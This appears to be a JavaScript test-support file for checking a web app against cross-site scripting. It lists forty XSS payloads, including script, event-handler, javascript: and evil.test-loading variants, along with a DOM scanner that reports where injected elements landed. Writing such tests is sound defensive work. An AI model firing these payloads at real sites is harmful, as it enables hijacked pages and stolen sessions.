// Forty texts that become more than text where a page shows them as they are, and what a page looks like in which one did.

/** Each fits a label of sixty characters, the shortest field that shows somebody's words. */
export const PAYLOADS = [
  '<script>xss(1)</script>',
  '"><script>xss(1)</script>',
  '\'><script>xss(1)</script>',
  '</script><script>xss(1)</script>',
  '</title><script>xss(1)</script>',
  '</textarea><script>xss(1)</script>',
  '</style><script>xss(1)</script>',
  '--><script>xss(1)</script>',
  ']]><script>xss(1)</script>',
  '<ScRiPt>xss(1)</sCrIpT>',
  '<script src=//evil.test/x.js></script>',
  '<script/x>xss(1)</script>',
  '<<script>xss(1)//<</script>',
  '<img src=x onerror=xss(1)>',
  '"><img src=x onerror=xss(1)>',
  '<img/onerror=xss(1)/src=x>',
  '<img src=x onerror="xss(1)"',
  '<svg onload=xss(1)>',
  '<svg/onload=xss(1)>',
  '<svg><script>xss(1)</script></svg>',
  '<svg><a href=javascript:xss(1)><text>x',
  '<math href=javascript:xss(1)>x</math>',
  '<body onload=xss(1)>',
  '<iframe src=javascript:xss(1)>',
  '<iframe srcdoc="<script>xss(1)</script>">',
  '<object data=javascript:xss(1)></object>',
  '<embed src=javascript:xss(1)>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="9;url=//evil.test">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>*{background:url(//evil.test)}</style>',
  '<form action=//evil.test><button>x</button></form>',
  '<input autofocus onfocus=xss(1)>',
  '<details open ontoggle=xss(1)>x</details>',
  '<video><source onerror=xss(1)></video>',
  '<marquee onstart=xss(1)>x</marquee>',
  '" autofocus onfocus=xss(1) x="',
  '\' autofocus onfocus=xss(1) x=\'',
  'javascript:xss(1)',
  '<a href="javascript:xss(1)">x</a>',
];

/** What no template of ours writes, and where: elements, attributes and addresses that come from a payload, each behind the field that let it out. */
export const injected = (page) => page.evaluate(() => {
  const never = new Set(['iframe', 'object', 'embed', 'base', 'math', 'video', 'source', 'marquee', 'style']);
  const carriers = new Set(['href', 'xlink:href', 'src', 'srcdoc', 'data', 'action', 'formaction', 'content']);
  const isForeign = (element) => never.has(element.localName)
    || (element.localName === 'script' && !(element.getAttribute('src') ?? '').startsWith('/assets/'))
    || element.getAttributeNames().some((name) => name.startsWith('on')
      || (carriers.has(name) && /^\s*javascript:|evil\.test|<script/i.test(element.getAttribute(name))));
  const nameOf = (element) => [['id', '#'], ['class', '.'], ['name', '@']].reduce((name, [attribute, mark]) => {
    const value = element.getAttribute(attribute)?.split(' ')[0];
    return value ? `${name}${mark}${value}` : name;
  }, element.localName);
  const place = (element) => {
    const steps = [];
    for (let at = element.parentElement; at && at !== document.documentElement && steps.length < 5; at = at.parentElement) steps.unshift(nameOf(at));
    const before = element.previousElementSibling;
    return `${[...steps, nameOf(element)].join(' > ')}${before ? `, behind ${nameOf(before)}` : ''}`;
  };
  return [...document.querySelectorAll('*')].filter(isForeign).map((element) => `${place(element)}: ${element.outerHTML.slice(0, 200)}`);
});
